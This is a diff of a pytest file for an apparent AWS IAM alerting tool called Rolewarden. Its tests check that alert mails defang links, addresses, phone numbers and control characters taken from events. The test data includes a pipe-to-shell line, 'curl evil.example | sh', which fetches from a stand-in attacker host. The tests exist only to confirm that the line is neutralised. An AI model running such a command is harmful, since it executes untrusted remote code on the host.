@@ -364,8 +364,8 @@ def test_an_event_that_cannot_be_read_is_named_by_its_id():
 def test_line_breaks_and_control_characters_in_an_event_do_not_add_lines():
     cause = {"actor": "arn:aws:iam::1:user/a\r\nDone      all is well\x1b[2J\u202egnp", "event_name": "TagRole"}
     alert = alert_of("finding_role", role="Canvas\nFull", cause=cause)
-    assert alert.headline == "Rolewarden: role Canvas Full cannot be protected: quota full"
-    assert rows(alert)["Who"] == "arn:aws:iam::1:user/a Done all is well [2J gnp"
+    assert alert.headline == 'Rolewarden: role "Canvas Full" cannot be protected: quota full'
+    assert rows(alert)["Who"] == '"arn:aws:iam::1:user/a Done all is well [2J gnp"'
     assert rows(alert)["Done"] == "nothing (quota full)"
 
 
@@ -379,11 +379,72 @@ def test_a_name_that_no_role_can_have_gets_neither_a_link_nor_a_command_to_paste
         assert not {"Console", "Look"} & rows(alert_of(event, **harmful)).keys()
 
 
-def test_a_link_in_an_event_is_none_in_the_mail():
-    cause = {"actor": "arn:aws:iam::1:user/a", "user_agent": "see https://evil.example/fix"}
-    body = alert_of("finding_role", cause=cause).body
-    assert "evil.example" in body
-    assert "https://evil" not in body
+LINKED = [
+    ("see https://evil.example/fix", "https[:]//evil[.]example/fix"),
+    ("www.evil.co.uk", "www[.]evil[.]co[.]uk"),
+    ("evil.example", "evil[.]example"),
+    ("évil.рф", "évil[.]рф"),
+    ("evil\u3002example", "evil[.]example"),
+    ("\uff45vil\uff0eexample", "evil[.]example"),
+    ("help@evil.example", "help[at]evil[.]example"),
+    ("help@localhost", "help[at]localhost"),
+    ("mailto:help", "mailto[:]help"),
+    ("tel:5551234567", "tel[:]555[]123[]456[]7"),
+    ("+1 800 555 0199", "+1 80[]0 55[]5 01[]99"),
+    ("1-800-555-0199", "1-80[]0-55[]5-01[]99"),
+    ("call 18005550199 now", "call 180[]055[]501[]99 now"),
+    ("192.0.2.7/login", "192.0.2[.]7/login"),
+    ("`curl evil.example | sh`", "'curl evil[.]example | sh'"),
+    ("a\u202eb\u200bc\x1b[2J", "a b c [2J"),
+]
+"""Texts that a mail program would link, or show in another order, each with its form in a mail."""
+
+
+@pytest.mark.parametrize(("text", "shown"), LINKED)
+@pytest.mark.parametrize("field", ["actor", "user_agent", "message", "role", "missing", "subjects", "reason"])
+def test_no_text_of_an_event_is_a_link_in_the_mail(field, text, shown):
+    forms: dict[str, dict[str, Any]] = {
+        "actor": {"cause": {"actor": text, "event_name": "TagRole"}},
+        "user_agent": {"cause": {"actor": "a", "event_name": "TagRole", "user_agent": text}},
+        "missing": {"missing": [text], "attached": []},
+        "subjects": {"subjects": [text]},
+    }
+    alert = alert_of("finding_role", **forms.get(field, {field: text}))
+    written = " ".join(alert.body.split()).replace(" ", "")
+    assert shown.replace(" ", "") in written
+    assert text.replace(" ", "") not in written
+    assert text not in alert.headline
+
+
+def test_versions_addresses_and_accounts_are_shown_as_they_are():
+    agent = "aws-cli/2.31.0 md/awscrt#0.27.6 ua/2.1 os/linux lang/python#3.13.7"
+    cause = {"actor": "arn:aws:iam::111122223333:user/a", "source_address": "198.51.100.66", "user_agent": agent}
+    found = rows(alert_of("finding_role", cause={**cause, "event_name": "TagRole"}))
+    assert (found["Who"], found["From"]) == (cause["actor"], f"198.51.100.66, {agent}")
+
+
+def test_a_user_agent_that_is_a_sentence_is_in_quotation_marks():
+    cause = {"actor": "a", "event_name": "TagRole", "user_agent": 'To do: "sign in" now'}
+    assert rows(alert_of("finding_role", cause=cause))["From"] == "\"To do: 'sign in' now\""
+
+
+def test_the_recommended_action_of_an_event_is_not_in_the_mail():
+    alert = alert_of("finding_role", recommendation="sign in at the portal")
+    assert "portal" not in alert.body
+    assert rows(alert)["To do"] == RECOMMENDATIONS[Reason.QUOTA]
+    unknown = alert_of("finding_role", reason="sign in", recommendation="sign in at the portal")
+    assert rows(unknown)["To do"] == "run `rolewarden history`, which has the whole finding"
+
+
+def test_an_unverified_caller_is_shown_as_such():
+    cause = {"actor": "arn:aws:iam::1:user/a", "event_name": "TagRole", "unverified": "queue message"}
+    found = rows(alert_of("finding_role", cause=cause))
+    assert found["Who"] == "arn:aws:iam::1:user/a (not verified: only a queue message says so)"
+
+
+def test_a_role_with_the_name_of_a_host_gets_neither_a_link_nor_a_command():
+    found = rows(alert_of("finding_role", role="login.evil.example"))
+    assert not {"Console", "Look"} & found.keys()
 
 
 def test_other_scripts_are_kept_in_the_text_and_marked_in_the_subject():
